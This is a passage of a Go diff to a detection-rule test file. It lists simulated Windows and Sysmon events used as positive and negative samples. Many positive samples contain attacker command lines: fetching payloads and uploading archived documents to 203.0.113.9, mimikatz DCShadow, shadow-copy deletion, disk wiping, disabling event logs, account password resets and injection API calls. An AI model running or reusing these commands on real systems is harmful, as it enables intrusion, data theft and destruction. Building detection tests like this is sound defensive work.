-			ID: "6e3e0991-4080-5ff8-97f0-e0fa7d2ddb01", // Verclsid Instantiates a COM Object From the Command Line
+			ID:      "6e3e0991-4080-5ff8-97f0-e0fa7d2ddb01", // Verclsid Instantiates a COM Object From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\verclsid.exe",
-			"CommandLine": "verclsid.exe /S /C {D52A8F36-7D3E-4D1B-A5E5-D2F9C2A3B111}",
-			"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"Image":       "C:\\Windows\\System32\\verclsid.exe",
+				"CommandLine": "verclsid.exe /S /C {D52A8F36-7D3E-4D1B-A5E5-D2F9C2A3B111}",
+				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
 			},
 		},
 		{
-			ID: "2582aa4e-6946-5995-bce5-0156895ea847", // MMC Opens a Console File From a User-Writable Path
+			ID:      "2582aa4e-6946-5995-bce5-0156895ea847", // MMC Opens a Console File From a User-Writable Path
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\mmc.exe",
-			"CommandLine": "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Users\\bob\\Downloads\\invoice.msc\"",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\mmc.exe",
+				"CommandLine": "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Users\\bob\\Downloads\\invoice.msc\"",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "9ae122ca-ee15-5da4-8880-d92e5af15f91", // PubPrn.vbs Runs a Remote Scriptlet
+			ID:      "9ae122ca-ee15-5da4-8880-d92e5af15f91", // PubPrn.vbs Runs a Remote Scriptlet
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cscript.exe",
-			"CommandLine": "cscript.exe /b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://203.0.113.9/p.sct",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\cscript.exe",
+				"CommandLine": "cscript.exe /b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://203.0.113.9/p.sct",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "34b69ec3-7f77-524b-bee1-ffe9a4229c1b", // SyncAppvPublishingServer Runs PowerShell Commands
+			ID:      "34b69ec3-7f77-524b-bee1-ffe9a4229c1b", // SyncAppvPublishingServer Runs PowerShell Commands
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\wscript.exe",
-			"CommandLine": "wscript.exe C:\\Windows\\System32\\SyncAppvPublishingServer.vbs \"n; Start-Process calc\"",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\wscript.exe",
+				"CommandLine": "wscript.exe C:\\Windows\\System32\\SyncAppvPublishingServer.vbs \"n; Start-Process calc\"",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "9c70f78a-1283-52d8-8499-1049421f4436", // Command Run Indirectly Through forfiles or pcalua
+			ID:      "9c70f78a-1283-52d8-8499-1049421f4436", // Command Run Indirectly Through forfiles or pcalua
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\forfiles.exe",
-			"CommandLine": "forfiles /p C:\\Windows\\System32 /m notepad.exe /c \"C:\\Users\\Public\\a.exe\"",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\forfiles.exe",
+				"CommandLine": "forfiles /p C:\\Windows\\System32 /m notepad.exe /c \"C:\\Users\\Public\\a.exe\"",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "880c6547-911e-505c-b06d-a7324a662429", // Rogue Domain Controller Registered (DCShadow)
+			ID:      "880c6547-911e-505c-b06d-a7324a662429", // Rogue Domain Controller Registered (DCShadow)
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\m.exe",
-			"CommandLine": "m.exe \"lsadump::dcshadow /object:bob /attribute:primaryGroupID /value:512\" exit",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Users\\Public\\m.exe",
+				"CommandLine": "m.exe \"lsadump::dcshadow /object:bob /attribute:primaryGroupID /value:512\" exit",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "38e61e17-1ecc-5247-897d-4d0f1c03a1f9", // SID History Added to an Account
+			ID:      "38e61e17-1ecc-5247-897d-4d0f1c03a1f9", // SID History Added to an Account
 			Channel: "Security", EventID: 4738,
 			Fields: map[string]string{
-			"EventID": "4738",
-			"TargetUserName": "bob",
-			"SidHistory": "S-1-5-21-1-2-3-512",
+				"EventID":        "4738",
+				"TargetUserName": "bob",
+				"SidHistory":     "S-1-5-21-1-2-3-512",
 			},
 		},
 		{
-			ID: "f7bcb4cb-85af-5eac-9c54-be788146a512", // Group Policy Object Settings Changed by a User Account
+			ID:      "f7bcb4cb-85af-5eac-9c54-be788146a512", // Group Policy Object Settings Changed by a User Account
 			Channel: "Security", EventID: 5136,
 			Fields: map[string]string{
-			"EventID": "5136",
-			"ObjectClass": "groupPolicyContainer",
-			"AttributeLDAPDisplayName": "gPCMachineExtensionNames",
-			"SubjectUserName": "bob",
+				"EventID":                  "5136",
+				"ObjectClass":              "groupPolicyContainer",
+				"AttributeLDAPDisplayName": "gPCMachineExtensionNames",
+				"SubjectUserName":          "bob",
 			},
 		},
 		{
-			ID: "6c418e1e-7880-5935-b8ec-1fa2f707364d", // Root Certificate Installed From the Command Line
+			ID:      "6c418e1e-7880-5935-b8ec-1fa2f707364d", // Root Certificate Installed From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\certutil.exe",
-			"CommandLine": "certutil -addstore -f root C:\\Users\\Public\\ca.cer",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\certutil.exe",
+				"CommandLine": "certutil -addstore -f root C:\\Users\\Public\\ca.cer",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "947c9e58-71b7-5ffe-ac6f-325484ce5e06", // Virtual Machine or Sandbox Checks in a PowerShell Script Block
+			ID:      "947c9e58-71b7-5ffe-ac6f-325484ce5e06", // Virtual Machine or Sandbox Checks in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "if ((Get-WmiObject Win32_ComputerSystem).Model -match \"VirtualBox|VMware\") { exit }",
+				"ScriptBlockText": "if ((Get-WmiObject Win32_ComputerSystem).Model -match \"VirtualBox|VMware\") { exit }",
 			},
 		},
 		{
-			ID: "e5528f3f-be04-5e21-ab54-7dd87cb08585", // Remote Thread Starts at LoadLibrary (DLL Injection)
+			ID:      "e5528f3f-be04-5e21-ab54-7dd87cb08585", // Remote Thread Starts at LoadLibrary (DLL Injection)
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
 			Fields: map[string]string{
-			"SourceImage": "C:\\Users\\Public\\inj.exe",
-			"TargetImage": "C:\\Windows\\explorer.exe",
-			"StartFunction": "LoadLibraryW",
-			"StartModule": "C:\\Windows\\System32\\KERNELBASE.dll",
+				"SourceImage":   "C:\\Users\\Public\\inj.exe",
+				"TargetImage":   "C:\\Windows\\explorer.exe",
+				"StartFunction": "LoadLibraryW",
+				"StartModule":   "C:\\Windows\\System32\\KERNELBASE.dll",
 			},
 		},
 		{
-			ID: "4582c620-e117-5cc4-a9d2-95abd7bb2e7d", // Process Image Replaced in Memory (Process Hollowing)
+			ID:      "4582c620-e117-5cc4-a9d2-95abd7bb2e7d", // Process Image Replaced in Memory (Process Hollowing)
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 25,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\svchost.exe",
-			"Type": "Image is replaced",
+				"Image": "C:\\Windows\\System32\\svchost.exe",
+				"Type":  "Image is replaced",
 			},
 		},
 		{
-			ID: "ec059f1d-a313-5593-870a-0e310decd508", // APC Injection APIs in a PowerShell Script Block
+			ID:      "ec059f1d-a313-5593-870a-0e310decd508", // APC Injection APIs in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "$m=[K32]::VirtualAllocEx($h,0,$sc.Length,0x3000,0x40); [K32]::WriteProcessMemory($h,$m,$sc,$sc.Length,[ref]0); [K32]::QueueUserAPC($m,$t,0)",
+				"ScriptBlockText": "$m=[K32]::VirtualAllocEx($h,0,$sc.Length,0x3000,0x40); [K32]::WriteProcessMemory($h,$m,$sc,$sc.Length,[ref]0); [K32]::QueueUserAPC($m,$t,0)",
 			},
 		},
 		{
-			ID: "a9d09b49-d9f5-5510-91a7-b87a07b270a2", // Parent Process Spoofing Attribute Used in PowerShell
+			ID:      "a9d09b49-d9f5-5510-91a7-b87a07b270a2", // Parent Process Spoofing Attribute Used in PowerShell
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "$PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = 0x00020000; [Kernel32]::UpdateProcThreadAttribute($si.lpAttributeList, 0, $PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, $lpValue, [IntPtr]::Size, [IntPtr]::Zero, [IntPtr]::Zero)",
+				"ScriptBlockText": "$PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = 0x00020000; [Kernel32]::UpdateProcThreadAttribute($si.lpAttributeList, 0, $PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, $lpValue, [IntPtr]::Size, [IntPtr]::Zero, [IntPtr]::Zero)",
 			},
 		},
 		{
-			ID: "bdf0e895-8045-5d8b-8ec4-8cdef8216aec", // Remote Desktop Connection History Deleted
+			ID:      "bdf0e895-8045-5d8b-8ec4-8cdef8216aec", // Remote Desktop Connection History Deleted
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
-			"CommandLine": "reg delete \"HKCU\\Software\\Microsoft\\Terminal Server Client\\Default\" /va /f",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\reg.exe",
+				"CommandLine": "reg delete \"HKCU\\Software\\Microsoft\\Terminal Server Client\\Default\" /va /f",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "ef41b8ed-56af-5f1c-bdff-525a10ed784b", // Program in a User Folder Starts a Command Shell
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd.exe /c whoami /all",
+				"ParentImage": "C:\\Users\\bob\\Downloads\\invoice.exe",
+			},
+		},
+		{
+			ID:      "a33c05a3-6e4a-5409-81e0-990866e4f04c", // Win32 API Imported Into PowerShell With Add-Type
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Add-Type @\"\n[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n\"@",
+			},
+		},
+		{
+			ID:      "5358945c-ca20-52d5-aed4-8da551a6be2a", // Equation Editor or Office Helper Starts a Process
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd.exe /c powershell -w hidden -c iwr http://203.0.113.9/a.exe",
+				"ParentImage": "C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\EQUATION\\EQNEDT32.EXE",
+			},
+		},
+		{
+			ID:      "5513d9ed-be26-55ca-9a13-709323de6dc5", // Windows Script Host Runs a VBScript From a User-Writable Path
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\wscript.exe",
+				"CommandLine": "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\bob\\Downloads\\invoice.vbs\"",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "f5ed4298-42c4-5824-843e-14e15864bf42", // Windows Script Host Runs a JScript From a User-Writable Path
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\wscript.exe",
+				"CommandLine": "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\bob\\AppData\\Local\\Temp\\Rar$EX01\\order.js\"",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "3749450e-6a85-5815-964b-1c7416e2ba79", // AutoIt or AutoHotkey Interpreter Runs a Script From a User-Writable Path
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Users\\Public\\AutoIt3.exe",
+				"CommandLine": "C:\\Users\\Public\\AutoIt3.exe C:\\Users\\Public\\x.a3x",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "cae60c39-4510-5682-bd85-ddd78962ebc0", // Data Archived With a Password or Into Volumes by a Command-Line Archiver
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\ProgramData\\7za.exe",
+				"CommandLine": "7za.exe a -tzip -pS3cret C:\\ProgramData\\out.zip C:\\Users\\bob\\Documents\\*",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "f271c951-751c-5a66-88a0-d3cb7aa21947", // Data Compressed From PowerShell Into a Staging Folder
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Compress-Archive -Path $env:USERPROFILE\\Documents\\* -DestinationPath $env:TEMP\\docs.zip",
+			},
+		},
+		{
+			ID:      "dd2c2602-2003-5190-8b5d-11c725dc97db", // Outlook Data File Copied or Archived From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd /c copy C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@corp.com.ost C:\\Users\\Public\\m.ost",
+				"ParentImage": "C:\\Users\\Public\\a.exe",
+			},
+		},
+		{
+			ID:      "a4f72291-d889-5f79-aeba-5cc8ac3c810b", // Webcam Capture From PowerShell
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "[DllImport(\"avicap32.dll\")] public static extern IntPtr capCreateCaptureWindowA(string n, int s, int x, int y, int w, int h, IntPtr p, int id);",
+			},
+		},
+		{
+			ID:      "925b82ff-a5ee-545d-bceb-b2399a545d17", // Video Capture Library Loaded by a Script Host or User-Path Program
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"ImageLoaded": "C:\\Windows\\System32\\avicap32.dll",
+			},
+		},
+		{
+			ID:      "483a6cb8-af6d-5655-b398-239c9bccd76a", // File Uploaded Over FTP, TFTP or Plain HTTP From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"CommandLine": "curl.exe -T C:\\Users\\Public\\out.zip ftp://203.0.113.9/in/",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "1bcd7235-619b-539a-92f2-36a1cafda898", // Rclone or MEGA Client Copies Data to Cloud Storage
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":            "C:\\ProgramData\\svc.exe",
+				"CommandLine":      "svc.exe copy C:\\Shares\\Finance mega:backup --transfers 8 --ignore-existing",
+				"ParentImage":      "C:\\Windows\\System32\\cmd.exe",
+				"OriginalFileName": "rclone.exe",
+			},
+		},
+		{
+			ID:      "4f093d41-0e4a-56c2-bdc0-c9372e1a4ca4", // Archive Split Into Fixed-Size Volumes
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\ProgramData\\rar.exe",
+				"CommandLine": "rar.exe a -v50m C:\\ProgramData\\d.rar C:\\Shares\\HR",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "a746fe2b-702d-5644-a0c6-7924b5d30f2d", // File Uploaded With scp, pscp or sftp
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\OpenSSH\\scp.exe",
+				"CommandLine": "scp.exe C:\\Users\\Public\\out.7z user@203.0.113.9:/tmp/",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "4fb87cb9-267d-52b5-9cd5-16daaeaaaf63", // Volume Shadow Copies or Backup Catalog Deleted
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\vssadmin.exe",
+				"CommandLine": "vssadmin.exe delete shadows /all /quiet",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "81c604ce-8e13-58a5-860a-ad205e0d7337", // Security, Backup or Database Service Stopped From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\net.exe",
+				"CommandLine": "net stop \"SQLWriter\" /y",
+				"ParentImage": "C:\\ProgramData\\r.exe",
+			},
+		},
+		{
+			ID:      "fa9fec36-b37f-51bc-a7bb-d0ad3096f3cf", // Drive Formatted or Free Space Wiped From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cipher.exe",
+				"CommandLine": "cipher.exe /w:C:\\\\",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "59bd31d3-cc4f-53ed-9e12-3a918241044a", // Ransom Note Written
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
+			Fields: map[string]string{
+				"Image":          "C:\\ProgramData\\r.exe",
+				"TargetFilename": "C:\\Shares\\Finance\\HOW_TO_DECRYPT_FILES.txt",
+			},
+		},
+		{
+			ID:      "fae1b996-0294-55fa-8493-ee26e3cd2ad3", // System Shutdown or Reboot Forced by a Script or User-Path Program
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\shutdown.exe",
+				"CommandLine": "shutdown.exe /r /t 0 /f",
+				"ParentImage": "C:\\ProgramData\\r.exe",
+			},
+		},
+		{
+			ID:      "c6c98533-3847-5f94-8075-f99ca3541005", // Account Deleted or Its Password Reset From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\net.exe",
+				"CommandLine": "net user Administrator N3wP4ss!",
+				"ParentImage": "C:\\ProgramData\\r.exe",
+			},
+		},
+		{
+			ID:      "ec01ddad-c5d0-5170-b872-44ffc1b835a7", // Desktop Wallpaper Changed by a Script Host or User-Path Program
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Image":        "C:\\ProgramData\\r.exe",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Control Panel\\Desktop\\Wallpaper",
+				"Details":      "C:\\ProgramData\\note.bmp",
+			},
+		},
+		{
+			ID:      "824e2c82-8bbb-5abe-a309-caebab6b9768", // Cryptocurrency Miner Started
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\ProgramData\\svc.exe",
+				"CommandLine": "svc.exe -o stratum+tcp://pool.example:3333 -u 4AbC... -p x --donate-level 1",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "1d22f737-9625-52cd-90ea-526e54faa04f", // Event Log Disabled or Redirected With wevtutil
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\wevtutil.exe",
+				"CommandLine": "wevtutil sl Security /e:false",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 	}...)
 	ruleNegatives = append(ruleNegatives, []ruleSample{
 		{
-			ID: "fd72b5b5-cbc5-5edf-9a36-38f59d6eaf85", // Cached Domain Credentials Read From the Registry or With Mimikatz
+			ID:      "fd72b5b5-cbc5-5edf-9a36-38f59d6eaf85", // Cached Domain Credentials Read From the Registry or With Mimikatz
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
-			"CommandLine": "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Cache",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\reg.exe",
+				"CommandLine": "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Cache",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "cad87ff6-89ad-5bea-9973-875baf8f8d96", // SAM Account Database Opened by a Non-System Process
+			ID:      "cad87ff6-89ad-5bea-9973-875baf8f8d96", // SAM Account Database Opened by a Non-System Process
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectType": "Key",
-			"ObjectName": "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account",
-			"ProcessName": "C:\\Windows\\System32\\lsass.exe",
+				"EventID":     "4663",
+				"ObjectType":  "Key",
+				"ObjectName":  "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account",
+				"ProcessName": "C:\\Windows\\System32\\lsass.exe",
 			},
 		},
 		{
-			ID: "74c6cdd9-9a55-595f-9fce-320c1446a043", // Files Searched for Passwords From the Command Line
+			ID:      "74c6cdd9-9a55-595f-9fce-320c1446a043", // Files Searched for Passwords From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\findstr.exe",
-			"CommandLine": "findstr /i \"error\" C:\\Logs\\app.log",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\findstr.exe",
+				"CommandLine": "findstr /i \"error\" C:\\Logs\\app.log",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "77f18b38-68b3-547a-bba0-1e63d58d949f", // Registry Searched for Stored Passwords
+			ID:      "77f18b38-68b3-547a-bba0-1e63d58d949f", // Registry Searched for Stored Passwords
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
-			"CommandLine": "reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion /v ProductName",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\reg.exe",
+				"CommandLine": "reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion /v ProductName",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "a8266518-f949-5dc7-a365-b55f50f2c585", // Certificate Private Key Exported From the Command Line
+			ID:      "a8266518-f949-5dc7-a365-b55f50f2c585", // Certificate Private Key Exported From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-			"CommandLine": "powershell Export-Certificate -Cert Cert:\\CurrentUser\\My\\1A2B -FilePath C:\\Users\\bob\\c.cer",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"CommandLine": "powershell Export-Certificate -Cert Cert:\\CurrentUser\\My\\1A2B -FilePath C:\\Users\\bob\\c.cer",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "39268433-21eb-5921-a7dc-af3f7d868d5a", // Group Policy Preference Passwords Searched
+			ID:      "39268433-21eb-5921-a7dc-af3f7d868d5a", // Group Policy Preference Passwords Searched
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\findstr.exe",
-			"CommandLine": "findstr /S /I drivemap \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\findstr.exe",
+				"CommandLine": "findstr /S /I drivemap \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "b5d01226-ef14-51d4-b9c0-e175946a32c8", // Group Policy Preference Password Decryption in a Script Block
+			ID:      "b5d01226-ef14-51d4-b9c0-e175946a32c8", // Group Policy Preference Password Decryption in a Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Get-GPO -All | Select-Object DisplayName, ModificationTime",
+				"ScriptBlockText": "Get-GPO -All | Select-Object DisplayName, ModificationTime",
 			},
 		},
 		{
-			ID: "18f872fd-1793-5e2c-82a6-471cba9efebd", // Browser Password Store Opened by Another Program
+			ID:      "18f872fd-1793-5e2c-82a6-471cba9efebd", // Browser Password Store Opened by Another Program
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectName": "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
-			"ProcessName": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+				"EventID":     "4663",
+				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
+				"ProcessName": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
 			},
 		},
 		{
-			ID: "e0f97bd3-8a65-59ef-ae79-31b972d0c58f", // Browser Cookie Store Opened by Another Program
+			ID:      "e0f97bd3-8a65-59ef-ae79-31b972d0c58f", // Browser Cookie Store Opened by Another Program
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectName": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
-			"ProcessName": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+				"EventID":     "4663",
+				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
+				"ProcessName": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
 			},
 		},
 		{
-			ID: "e1f8978a-2deb-57be-9d56-d8a6974d40d8", // Password Manager Database Opened by Another Program
+			ID:      "e1f8978a-2deb-57be-9d56-d8a6974d40d8", // Password Manager Database Opened by Another Program
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectName": "C:\\Users\\bob\\Documents\\vault.kdbx",
-			"ProcessName": "C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe",
+				"EventID":     "4663",
+				"ObjectName":  "C:\\Users\\bob\\Documents\\vault.kdbx",
+				"ProcessName": "C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe",
 			},
 		},
 		{
-			ID: "a90b789d-95aa-5a8c-85ec-c560a3606bf4", // Kerberos Golden Ticket Forged on the Command Line
+			ID:      "a90b789d-95aa-5a8c-85ec-c560a3606bf4", // Kerberos Golden Ticket Forged on the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\klist.exe",
-			"CommandLine": "klist tickets",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\klist.exe",
+				"CommandLine": "klist tickets",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
